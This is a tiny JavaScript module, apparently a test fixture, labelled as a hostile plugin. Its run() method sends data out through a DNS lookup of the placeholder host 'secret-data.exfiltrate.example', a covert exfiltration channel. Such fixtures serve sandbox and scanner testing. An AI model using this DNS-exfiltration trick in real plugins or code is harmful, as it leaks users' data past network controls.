// Hostile plugin: DNS resolution (a covert channel) through require('dns').
module.exports = {
  run() {
    require('dns').lookup('secret-data.exfiltrate.example', () => {});
    return 'sent';
  },
};
